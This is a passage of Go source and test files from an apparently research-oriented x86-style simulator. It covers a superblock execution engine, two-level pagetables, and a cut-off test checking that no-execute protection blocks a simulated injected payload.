	next := off + uint32(in.Size) // fall-through offset within the page
	r1, r2, imm := in.R1, in.R2, in.Imm

	switch in.Op {
	case isa.OpNop:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpMovImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = imm
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpMov:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.Ctx.R[r2]
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpLea:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.Ctx.R[r2] + imm
			m.Ctx.EIP = base + next
			return sbFall
		}

	case isa.OpAdd:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.addFlags(m.Ctx.R[r1], m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpAddImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.addFlags(m.Ctx.R[r1], imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpSub:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.subFlags(m.Ctx.R[r1], m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpSubImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.subFlags(m.Ctx.R[r1], imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpCmp:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.subFlags(m.Ctx.R[r1], m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpCmpImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.subFlags(m.Ctx.R[r1], imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpAnd:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] & m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpAndImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] & imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpOr:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] | m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpOrImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] | imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpXor:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] ^ m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpXorImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] ^ imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpMul:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] * m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpMulImm:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] * imm)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpDiv:
		op.exec = func(m *Machine, base uint32) sbSig {
			if m.Ctx.R[r2] == 0 {
				if m.divideError() == ActStop {
					return sbStop
				}
				return sbTrap // EIP still at the instruction: restart
			}
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] / m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpMod:
		op.exec = func(m *Machine, base uint32) sbSig {
			if m.Ctx.R[r2] == 0 {
				if m.divideError() == ActStop {
					return sbStop
				}
				return sbTrap
			}
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] % m.Ctx.R[r2])
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpShl:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] << (imm & 31))
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpShr:
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.R[r1] = m.logicFlags(m.Ctx.R[r1] >> (imm & 31))
			m.Ctx.EIP = base + next
			return sbFall
		}

	case isa.OpLoad:
		op.canFault = true
		op.exec = func(m *Machine, base uint32) sbSig {
			v, pf := m.readU32(m.Ctx.R[r2] + imm)
			if pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.R[r1] = v
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpLoadB:
		op.canFault = true
		op.exec = func(m *Machine, base uint32) sbSig {
			v, pf := m.readU8(m.Ctx.R[r2] + imm)
			if pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.R[r1] = uint32(v)
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpStore:
		op.canFault, op.writes = true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			if pf := m.writeU32(m.Ctx.R[r1]+imm, m.Ctx.R[r2]); pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpStoreB:
		op.canFault, op.writes = true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			if pf := m.writeU8(m.Ctx.R[r1]+imm, byte(m.Ctx.R[r2])); pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.EIP = base + next
			return sbFall
		}

	case isa.OpPush:
		op.canFault, op.writes = true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			if pf := m.push(m.Ctx.R[r1]); pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.EIP = base + next
			return sbFall
		}
	case isa.OpPop:
		op.canFault = true
		op.exec = func(m *Machine, base uint32) sbSig {
			v, pf := m.pop()
			if pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.R[r1] = v
			m.Ctx.EIP = base + next
			return sbFall
		}

	case isa.OpJmp:
		op.terminal = true
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.EIP = base + next + imm
			return sbEnd
		}
	case isa.OpJmpReg:
		op.terminal = true
		op.exec = func(m *Machine, base uint32) sbSig {
			m.Ctx.EIP = m.Ctx.R[r1]
			return sbEnd
		}
	case isa.OpCall:
		op.canFault, op.writes, op.terminal = true, true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			if pf := m.push(base + next); pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.EIP = base + next + imm
			return sbEnd
		}
	case isa.OpCallReg:
		op.canFault, op.writes, op.terminal = true, true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			if pf := m.push(base + next); pf != nil {
				m.sbPF = pf
				return sbFault
			}
			// Read the target after the push, as the interpreter does: a
			// call through ESP must observe the decremented stack pointer.
			m.Ctx.EIP = m.Ctx.R[r1]
			return sbEnd
		}
	case isa.OpRet:
		op.canFault, op.terminal = true, true
		op.exec = func(m *Machine, base uint32) sbSig {
			v, pf := m.pop()
			if pf != nil {
				m.sbPF = pf
				return sbFault
			}
			m.Ctx.EIP = v
			return sbEnd
		}

	case isa.OpJz:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.ZF })
	case isa.OpJnz:
		return sbCond(op, next, imm, func(f *Flags) bool { return !f.ZF })
	case isa.OpJl:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.SF != f.OF })
	case isa.OpJge:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.SF == f.OF })
	case isa.OpJg:
		return sbCond(op, next, imm, func(f *Flags) bool { return !f.ZF && f.SF == f.OF })
	case isa.OpJle:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.ZF || f.SF != f.OF })
	case isa.OpJb:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.CF })
	case isa.OpJae:
		return sbCond(op, next, imm, func(f *Flags) bool { return !f.CF })
	case isa.OpJa:
		return sbCond(op, next, imm, func(f *Flags) bool { return !f.CF && !f.ZF })
	case isa.OpJbe:
		return sbCond(op, next, imm, func(f *Flags) bool { return f.CF || f.ZF })

	default:
		// int/int3/hlt and anything unmodeled: interpreter only.
		return op, false
	}
	return op, true
}

// sbCond finishes a conditional-branch op.
func sbCond(op sbOp, next, imm uint32, take func(f *Flags) bool) (sbOp, bool) {
	op.terminal = true
	op.exec = func(m *Machine, base uint32) sbSig {
		t := base + next
		if take(&m.Ctx.Flags) {
			t += imm
		}
		m.Ctx.EIP = t
		return sbEnd
	}
	return op, true
}
