package cpu

import (
	"testing"

	"splitmem/internal/isa"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
)

// newSBMachine is newTestMachine with the superblock engine enabled. Raw
// machines have no scheduler publishing a timeslice bound, so the bound is
// opened wide here; individual tests narrow it to provoke side-exits.
func newSBMachine(t *testing.T, code []byte) (*Machine, *testHandler) {
	t.Helper()
	m, h := newTestMachineCfg(t, Config{PhysBytes: 1 << 20, Superblocks: true}, code)
	m.SetSliceEnd(^uint64(0))
	return m, h
}

// selfLoop assembles body followed by a jmp back to the loop head, the
// canonical hot region: a straight-line block with a terminal branch.
func selfLoop(body ...isa.Instr) []byte {
	b := asmBytes(body...)
	jlen := len(isa.Encode(nil, isa.Instr{Op: isa.OpJmp}))
	total := len(b) + jlen
	return isa.Encode(b, isa.Instr{Op: isa.OpJmp, Imm: uint32(-int32(total))})
}

// warmLoop steps until the engine has entered at least one compiled block.
func warmLoop(t *testing.T, m *Machine) {
	t.Helper()
	for i := 0; m.Stats.SuperblockEntered == 0; i++ {
		if i > 100*sbHotThreshold {
			t.Fatal("loop never got hot")
		}
		if m.Step() != StepOK {
			t.Fatalf("stopped while warming (EIP=%#x)", m.Ctx.EIP)
		}
	}
}

// TestSuperblockCompileAndEnter: a hot self-loop is compiled and entered,
// and the superblock machine ends in exactly the state a pure interpreter
// reaches after the same number of retired instructions.
func TestSuperblockCompileAndEnter(t *testing.T) {
	prog := selfLoop(
		isa.Instr{Op: isa.OpAddImm, R1: isa.EAX, Imm: 1},
		isa.Instr{Op: isa.OpAddImm, R1: isa.EAX, Imm: 2},
	)
	m, _ := newSBMachine(t, prog)
	for m.Stats.Instructions < 300 {
		if m.Step() != StepOK {
			t.Fatalf("stopped at EIP=%#x", m.Ctx.EIP)
		}
	}
	if m.Stats.SuperblockCompiled == 0 {
		t.Fatal("hot loop never compiled")
	}
	if m.Stats.SuperblockEntered == 0 {
		t.Fatal("compiled block never entered")
	}

	ref, _ := newTestMachine(t, prog)
	for ref.Stats.Instructions < m.Stats.Instructions {
		if ref.Step() != StepOK {
			t.Fatalf("interpreter stopped at EIP=%#x", ref.Ctx.EIP)
		}
	}
	if ref.Ctx != m.Ctx {
		t.Fatalf("contexts diverge:\nsb     %+v\ninterp %+v", m.Ctx, ref.Ctx)
	}
	if ref.Cycles != m.Cycles {
		t.Fatalf("cycles diverge: sb %d, interp %d", m.Cycles, ref.Cycles)
	}
}

// TestSuperblockDisabledWithoutConfig: without Config.Superblocks the engine
// must stay entirely out of the step loop.
func TestSuperblockDisabledWithoutConfig(t *testing.T) {
	m, _ := newTestMachine(t, selfLoop(isa.Instr{Op: isa.OpNop}))
	for i := 0; i < 200; i++ {
		if m.Step() != StepOK {
			t.Fatalf("stopped at EIP=%#x", m.Ctx.EIP)
		}
	}
	if m.Stats.SuperblockCompiled != 0 || m.Stats.SuperblockEntered != 0 {
		t.Fatalf("disabled engine ran: compiled=%d entered=%d",
			m.Stats.SuperblockCompiled, m.Stats.SuperblockEntered)
	}
}

// TestSuperblockHostWriteInvalidates: rewriting code through the physical
// frame (kernel, loader, chaos injector, split engine) must invalidate the
// compiled block so the new instruction — not the stale closure — executes.
func TestSuperblockHostWriteInvalidates(t *testing.T) {
	prog := selfLoop(isa.Instr{Op: isa.OpMovImm, R1: isa.ECX, Imm: 5})
	m, _ := newSBMachine(t, prog)
	warmLoop(t, m)
	if m.Ctx.R[isa.ECX] != 5 {
		t.Fatalf("ecx=%d want 5", m.Ctx.R[isa.ECX])
	}

	frame := m.Pagetable().Get(codeVPN).Frame()
	patch := isa.Encode(nil, isa.Instr{Op: isa.OpMovImm, R1: isa.ECX, Imm: 9})
	for i, v := range patch {
		m.Phys.SetByte(frame<<mem.PageShift+uint32(i), v)
	}
	inv0 := m.Stats.SuperblockInvalidations
	stepN(t, m, 1) // EIP is at the loop head: this retires the patched mov
	if m.Ctx.R[isa.ECX] != 9 {
		t.Fatalf("stale block executed after frame rewrite: ecx=%d want 9", m.Ctx.R[isa.ECX])
	}
	if m.Stats.SuperblockInvalidations != inv0+1 {
		t.Fatalf("invalidations=%d want %d", m.Stats.SuperblockInvalidations, inv0+1)
	}

	// Hotness is re-proven from scratch: the loop recompiles and re-enters.
	comp0 := m.Stats.SuperblockCompiled
	for i := 0; i < 4*sbHotThreshold; i++ {
		stepN(t, m, 1)
	}
	if m.Stats.SuperblockCompiled <= comp0 {
		t.Fatal("loop never recompiled after invalidation")
	}
}

// TestSuperblockSelfStoreSideExit: a compiled store that writes into the
// executing frame must side-exit immediately after retiring, so no stale op
// after it can run; the next fetch revalidates and invalidates the frame.
func TestSuperblockSelfStoreSideExit(t *testing.T) {
	store := isa.Instr{Op: isa.OpStoreB, R1: isa.EBX, R2: isa.EAX}
	prog := selfLoop(
		store,
		isa.Instr{Op: isa.OpAddImm, R1: isa.ECX, Imm: 1},
	)
	m, _ := newSBMachine(t, prog)
	// The loop stores into its own page, so map the code page writable.
	pt := m.Pagetable()
	pt.Set(codeVPN, pt.Get(codeVPN).With(paging.Writable))
	// Warm up with the store aimed at a different frame: the code frame's
	// stamps stay valid and the loop compiles.
	m.Ctx.R[isa.EBX] = dataBase
	m.Ctx.R[isa.EAX] = 0x42
	warmLoop(t, m)

	// Aim the store into the code frame itself (a padding byte well past the
	// loop): the write generation bump must end the block after the store.
	storeLen := uint32(len(isa.Encode(nil, store)))
	m.Ctx.R[isa.EBX] = codeBase + mem.PageSize - 1
	s0 := m.Stats.SuperblockSideExits
	c0 := m.Ctx.R[isa.ECX]
	stepN(t, m, 1)
	if m.Stats.SuperblockSideExits != s0+1 {
		t.Fatalf("side exits=%d want %d", m.Stats.SuperblockSideExits, s0+1)
	}
	if m.Ctx.R[isa.ECX] != c0 {
		t.Fatal("block ran past the self-modifying store")
	}
	if m.Ctx.EIP != codeBase+storeLen {
		t.Fatalf("EIP=%#x want %#x (after the store)", m.Ctx.EIP, codeBase+storeLen)
	}

	// The next fetch finds stale stamps and drops the frame's blocks.
	inv0 := m.Stats.SuperblockInvalidations
	stepN(t, m, 1)
	if m.Stats.SuperblockInvalidations != inv0+1 {
		t.Fatalf("invalidations=%d want %d", m.Stats.SuperblockInvalidations, inv0+1)
	}
	if m.Ctx.R[isa.ECX] != c0+1 {
		t.Fatalf("ecx=%d want %d", m.Ctx.R[isa.ECX], c0+1)
	}
}

// TestSuperblockFlushAndInvlpgInvalidate: TLB flushes and invlpg advance the
// decode epoch, invalidating compiled blocks exactly as they evict predecode
// lines — the split engine's re-restriction path depends on it.
func TestSuperblockFlushAndInvlpgInvalidate(t *testing.T) {
	m, _ := newSBMachine(t, selfLoop(isa.Instr{Op: isa.OpNop}))
	warmLoop(t, m)

	inv0 := m.Stats.SuperblockInvalidations
	m.FlushTLBs()
	stepN(t, m, 1)
	if m.Stats.SuperblockInvalidations != inv0+1 {
		t.Fatalf("flush: invalidations=%d want %d", m.Stats.SuperblockInvalidations, inv0+1)
	}

	// Re-heat until compiled again, then invlpg must invalidate once more.
	for i := 0; m.Stats.SuperblockInvalidations == inv0+1 && m.Stats.SuperblockEntered < 2; i++ {
		if i > 100*sbHotThreshold {
			t.Fatal("loop never recompiled after flush")
		}
		stepN(t, m, 1)
	}
	inv1 := m.Stats.SuperblockInvalidations
	m.Invlpg(codeBase)
	stepN(t, m, 1)
	if m.Stats.SuperblockInvalidations != inv1+1 {
		t.Fatalf("invlpg: invalidations=%d want %d", m.Stats.SuperblockInvalidations, inv1+1)
	}
}

// TestSuperblockDropFrame: the split engine's precise invalidation hook
// drops a frame's superblock state along with its predecode lines.
func TestSuperblockDropFrame(t *testing.T) {
	m, _ := newSBMachine(t, selfLoop(isa.Instr{Op: isa.OpNop}))
	warmLoop(t, m)
	frame := m.Pagetable().Get(codeVPN).Frame()
	inv0 := m.Stats.SuperblockInvalidations
	m.DropDecodeFrame(frame)
	if m.Stats.SuperblockInvalidations != inv0+1 {
		t.Fatalf("invalidations=%d want %d", m.Stats.SuperblockInvalidations, inv0+1)
	}
	if m.sb[frame] != nil {
		t.Fatal("frame superblock state survived DropDecodeFrame")
	}
	m.DropDecodeFrame(frame) // already empty: no double count
	if m.Stats.SuperblockInvalidations != inv0+1 {
		t.Fatal("dropping an empty frame must not count")
	}
}

// TestSuperblockUncompilableEntryPinned: an entry point whose first
// instruction must trap through the interpreter is marked uncompilable after
// it proves hot, so the engine stops re-attempting the compile.
func TestSuperblockUncompilableEntryPinned(t *testing.T) {
	prog := selfLoop(isa.Instr{Op: isa.OpInt, Imm: 0x21})
	m, h := newSBMachine(t, prog)
	h.onInt = func(byte) Action { return ActResume }
	for i := 0; i < 4*sbHotThreshold; i++ {
		stepN(t, m, 1)
	}
	frame := m.Pagetable().Get(codeVPN).Frame()
	sbf := m.sb[frame]
	if sbf == nil {
		t.Fatal("frame never tracked")
	}
	if sbf.blocks[0] != nil {
		t.Fatal("trapping entry point was compiled")
	}
	if sbf.heat[0] != sbNoCompile {
		t.Fatalf("heat[0]=%d, entry not pinned uncompilable", sbf.heat[0])
	}
	if len(h.ints) < 2*sbHotThreshold {
		t.Fatalf("interrupts=%d, the int stopped being delivered", len(h.ints))
	}
}

// TestSuperblockTimesliceSideExit: a compiled block must stop retiring at
// the published timeslice bound, cycle-exactly where the scheduler's
// between-Step check would have stopped the interpreter.
func TestSuperblockTimesliceSideExit(t *testing.T) {
	nopLen := uint32(len(isa.Encode(nil, isa.Instr{Op: isa.OpNop})))
	prog := selfLoop(
		isa.Instr{Op: isa.OpNop},
		isa.Instr{Op: isa.OpNop},
		isa.Instr{Op: isa.OpNop},
	)
	m, _ := newSBMachine(t, prog)
	warmLoop(t, m)
	if m.Ctx.EIP != codeBase {
		t.Fatalf("warm loop not at head: EIP=%#x", m.Ctx.EIP)
	}

	// Two cycles of budget (Cost.Instr=1): the block must retire exactly two
	// nops, side-exit, and leave EIP at the third.
	s0 := m.Stats.SuperblockSideExits
	c0 := m.Cycles
	m.SetSliceEnd(c0 + 2)
	stepN(t, m, 1)
	if m.Stats.SuperblockSideExits != s0+1 {
		t.Fatalf("side exits=%d want %d", m.Stats.SuperblockSideExits, s0+1)
	}
	if m.Cycles != c0+2 {
		t.Fatalf("cycles=%d want %d", m.Cycles, c0+2)
	}
	if m.Ctx.EIP != codeBase+2*nopLen {
		t.Fatalf("EIP=%#x want %#x", m.Ctx.EIP, codeBase+2*nopLen)
	}
}
