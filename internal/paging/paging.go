// Package paging implements x86-style pagetables for the S86 simulator: a
// two-level structure of 64-bit pagetable entries with Present, Writable,
// User/Supervisor, Accessed, Dirty and NX bits, plus the software-available
// SPLIT bit used by the split-memory engine to tag virtualized-Harvard pages.
package paging

import (
	"splitmem/internal/mem"
	"splitmem/internal/snapshot"
)

// PTE bit layout (matches x86 where a bit exists there).
const (
	Present  uint64 = 1 << 0  // page is mapped
	Writable uint64 = 1 << 1  // user-mode writes allowed
	User     uint64 = 1 << 2  // user-mode access allowed; clear = supervisor only ("restricted")
	Accessed uint64 = 1 << 5  // set by the hardware walker on any access
	Dirty    uint64 = 1 << 6  // set by the hardware walker on write
	Split    uint64 = 1 << 9  // software bit: page is managed by the split-memory engine
	COW      uint64 = 1 << 10 // software bit: copy-on-write page
	Demand   uint64 = 1 << 11 // software bit: allocate on first touch
	NX       uint64 = 1 << 63 // no-execute (only honored when the machine has NX support)

	frameShift = 12
	frameMask  = uint64(0xFFFFF) << frameShift
)

// Entry is a single pagetable entry.
type Entry uint64

// Present reports whether the entry maps a frame.
func (e Entry) Present() bool { return uint64(e)&Present != 0 }

// Writable reports whether user-mode writes are permitted.
func (e Entry) Writable() bool { return uint64(e)&Writable != 0 }

// User reports whether user-mode access is permitted ("unrestricted").
func (e Entry) User() bool { return uint64(e)&User != 0 }

// Split reports whether the split-memory engine manages this page.
func (e Entry) Split() bool { return uint64(e)&Split != 0 }

// IsCOW reports whether the page is copy-on-write.
func (e Entry) IsCOW() bool { return uint64(e)&COW != 0 }

// IsDemand reports whether the page is demand-allocated and untouched.
func (e Entry) IsDemand() bool { return uint64(e)&Demand != 0 }

// NoExec reports whether instruction fetch is forbidden (NX).
func (e Entry) NoExec() bool { return uint64(e)&NX != 0 }

// Frame returns the physical frame number the entry maps.
func (e Entry) Frame() uint32 { return uint32((uint64(e) & frameMask) >> frameShift) }

// WithFrame returns e mapped to frame f.
func (e Entry) WithFrame(f uint32) Entry {
	return Entry((uint64(e) &^ frameMask) | (uint64(f) << frameShift & frameMask))
}

// With returns e with the given flag bits set.
func (e Entry) With(flags uint64) Entry { return Entry(uint64(e) | flags) }

// Without returns e with the given flag bits cleared.
func (e Entry) Without(flags uint64) Entry { return Entry(uint64(e) &^ flags) }

const (
	dirBits   = 10
	tableBits = 10
	dirSize   = 1 << dirBits
	tableSize = 1 << tableBits
)

// Table is a per-process two-level pagetable. The zero value is an empty
// address space ready for use.
type Table struct {
	dirs [dirSize]*[tableSize]Entry
}

// split a vpn into directory and table indices.
func splitVPN(vpn uint32) (uint32, uint32) {
	return vpn >> tableBits, vpn & (tableSize - 1)
}

// VPN returns the virtual page number of addr.
func VPN(addr uint32) uint32 { return addr >> mem.PageShift }

// Get returns the entry for virtual page number vpn (zero Entry when the
// containing directory is absent).
func (t *Table) Get(vpn uint32) Entry {
	d, i := splitVPN(vpn)
	tab := t.dirs[d]
	if tab == nil {
		return 0
	}
	return tab[i]
}

// Set stores the entry for virtual page number vpn, materializing the
// directory as needed.
func (t *Table) Set(vpn uint32, e Entry) {
	d, i := splitVPN(vpn)
	tab := t.dirs[d]
	if tab == nil {
		tab = new([tableSize]Entry)
		t.dirs[d] = tab
	}
	tab[i] = e
}

// Range calls fn for every present entry, in ascending vpn order. If fn
// returns false iteration stops.
func (t *Table) Range(fn func(vpn uint32, e Entry) bool) {
	for d := 0; d < dirSize; d++ {
		tab := t.dirs[d]
		if tab == nil {
			continue
		}
		for i := 0; i < tableSize; i++ {
			e := tab[i]
			if e == 0 {
				continue
			}
			if !fn(uint32(d<<tableBits|i), e) {
				return
			}
		}
	}
}

// EncodeState serializes every nonzero entry in ascending vpn order (Range's
// order, which is deterministic).
func (t *Table) EncodeState(w *snapshot.Writer) {
	n := uint32(0)
	t.Range(func(uint32, Entry) bool { n++; return true })
	w.U32(n)
	t.Range(func(vpn uint32, e Entry) bool {
		w.U32(vpn)
		w.U64(uint64(e))
		return true
	})
}

// DecodeState restores entries serialized by EncodeState into an empty table.
func (t *Table) DecodeState(r *snapshot.Reader) error {
	n := r.U32()
	if n > dirSize*tableSize {
		return snapshot.Corruptf("paging: %d entries", n)
	}
	for i := uint32(0); i < n; i++ {
		vpn := r.U32()
		e := Entry(r.U64())
		if vpn >= dirSize*tableSize {
			return snapshot.Corruptf("paging: vpn %#x out of range", vpn)
		}
		t.Set(vpn, e)
	}
	return r.Err()
}

// Clone returns a deep copy of the table (entries only; frames are shared).
func (t *Table) Clone() *Table {
	nt := new(Table)
	for d, tab := range t.dirs {
		if tab == nil {
			continue
		}
		cp := *tab
		nt.dirs[d] = &cp
	}
	return nt
}

// CountPresent returns the number of present entries.
func (t *Table) CountPresent() int {
	n := 0
	t.Range(func(_ uint32, e Entry) bool {
		if e.Present() {
			n++
		}
		return true
	})
	return n
}
