package paging

import (
	"math/rand"
	"testing"
	"testing/quick"
)

func TestEntryBits(t *testing.T) {
	var e Entry
	if e.Present() || e.User() || e.Writable() || e.Split() || e.NoExec() {
		t.Fatal("zero entry has bits set")
	}
	e = e.With(Present | Writable | User | Split | NX | COW | Demand)
	if !e.Present() || !e.User() || !e.Writable() || !e.Split() || !e.NoExec() || !e.IsCOW() || !e.IsDemand() {
		t.Fatal("bits not set")
	}
	e = e.Without(User | NX)
	if e.User() || e.NoExec() {
		t.Fatal("bits not cleared")
	}
	if !e.Present() || !e.Split() {
		t.Fatal("unrelated bits disturbed")
	}
}

func TestEntryFrame(t *testing.T) {
	e := Entry(0).With(Present | User).WithFrame(0x12345)
	if e.Frame() != 0x12345 {
		t.Fatalf("frame=%#x", e.Frame())
	}
	if !e.Present() || !e.User() {
		t.Fatal("flags clobbered by WithFrame")
	}
	e2 := e.WithFrame(0x7)
	if e2.Frame() != 7 || !e2.Present() {
		t.Fatalf("refit frame=%#x present=%v", e2.Frame(), e2.Present())
	}
}

func TestVPN(t *testing.T) {
	if VPN(0xbf000abc) != 0xbf000 {
		t.Fatalf("VPN=%#x", VPN(0xbf000abc))
	}
	if VPN(0xFFF) != 0 || VPN(0x1000) != 1 {
		t.Fatal("page boundary wrong")
	}
}

func TestTableGetSet(t *testing.T) {
	var tab Table
	if tab.Get(0x8048) != 0 {
		t.Fatal("empty table nonzero")
	}
	e := Entry(0).With(Present | User).WithFrame(33)
	tab.Set(0x8048, e)
	if tab.Get(0x8048) != e {
		t.Fatal("get != set")
	}
	// Different directory.
	tab.Set(0xbffff, e.WithFrame(44))
	if tab.Get(0xbffff).Frame() != 44 || tab.Get(0x8048).Frame() != 33 {
		t.Fatal("cross-directory interference")
	}
}

func TestRangeOrderAndEarlyStop(t *testing.T) {
	var tab Table
	vpns := []uint32{0xbffff, 0x80048, 0x80049, 0x100}
	for _, v := range vpns {
		tab.Set(v, Entry(0).With(Present))
	}
	var got []uint32
	tab.Range(func(vpn uint32, _ Entry) bool {
		got = append(got, vpn)
		return true
	})
	want := []uint32{0x100, 0x80048, 0x80049, 0xbffff}
	if len(got) != len(want) {
		t.Fatalf("got %d entries", len(got))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("order: got %#x want %#x at %d", got[i], want[i], i)
		}
	}
	n := 0
	tab.Range(func(uint32, Entry) bool { n++; return false })
	if n != 1 {
		t.Fatalf("early stop: visited %d", n)
	}
}

func TestClone(t *testing.T) {
	var tab Table
	tab.Set(5, Entry(0).With(Present).WithFrame(1))
	cl := tab.Clone()
	cl.Set(5, Entry(0).With(Present).WithFrame(2))
	cl.Set(6, Entry(0).With(Present).WithFrame(3))
	if tab.Get(5).Frame() != 1 {
		t.Fatal("clone writes leaked into original")
	}
	if tab.Get(6) != 0 {
		t.Fatal("clone set leaked")
	}
	if cl.Get(5).Frame() != 2 {
		t.Fatal("clone not writable")
	}
}

func TestCountPresent(t *testing.T) {
	var tab Table
	tab.Set(1, Entry(0).With(Present))
	tab.Set(2, Entry(0).With(Split)) // not present
	tab.Set(3, Entry(0).With(Present|Split))
	if n := tab.CountPresent(); n != 2 {
		t.Fatalf("CountPresent=%d", n)
	}
}

// Property: Set then Get is the identity for any vpn within the 20-bit
// space, and WithFrame/Frame round-trips any 20-bit frame number.
func TestQuickTableRoundTrip(t *testing.T) {
	f := func(vpn, frame uint32, flags uint16) bool {
		vpn &= 0xFFFFF
		frame &= 0xFFFFF
		e := Entry(uint64(flags) &^ 0x1FF).With(Present).WithFrame(frame)
		var tab Table
		tab.Set(vpn, e)
		return tab.Get(vpn) == e && tab.Get(vpn).Frame() == frame
	}
	cfg := &quick.Config{MaxCount: 2000, Rand: rand.New(rand.NewSource(11))}
	if err := quick.Check(f, cfg); err != nil {
		t.Fatal(err)
	}
}
