package nx

import (
	"testing"

	"splitmem/internal/asm"
	"splitmem/internal/cpu"
	"splitmem/internal/kernel"
	"splitmem/internal/paging"
)

func newNXKernel(t *testing.T) (*kernel.Kernel, *Engine) {
	t.Helper()
	m, err := cpu.New(cpu.Config{PhysBytes: 8 << 20, NXEnabled: true})
	if err != nil {
		t.Fatal(err)
	}
	eng := New()
	k, err := kernel.New(kernel.Config{Machine: m, Protector: eng})
	if err != nil {
		t.Fatal(err)
	}
	return k, eng
}

func spawnSrc(t *testing.T, k *kernel.Kernel, src string) *kernel.Process {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	p, err := k.Spawn(prog, kernel.ProcOptions{Name: "t"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestNXBitsSetPerSection(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
d: .word 1
`
	k, _ := newNXKernel(t)
	p := spawnSrc(t, k, src)
	var sawExec, sawData bool
	p.PT.Range(func(vpn uint32, e paging.Entry) bool {
		if e.NoExec() {
			sawData = true
			if !e.Writable() {
				t.Errorf("NX page %#x should be the writable data page", vpn)
			}
		} else {
			sawExec = true
			if e.Writable() {
				t.Errorf("executable page %#x should not be writable", vpn)
			}
		}
		return true
	})
	if !sawExec || !sawData {
		t.Fatal("expected both executable and NX pages")
	}
}

func TestNXBlocksDataExecution(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov ecx, payload
    mov edx, 8
    mov eax, 3             ; read injected bytes
    int 0x80
    mov ecx, payload
    jmp ecx
.data
payload: .space 8
`
	k, eng := newNXKernel(t)
	p := spawnSrc(t, k, src)
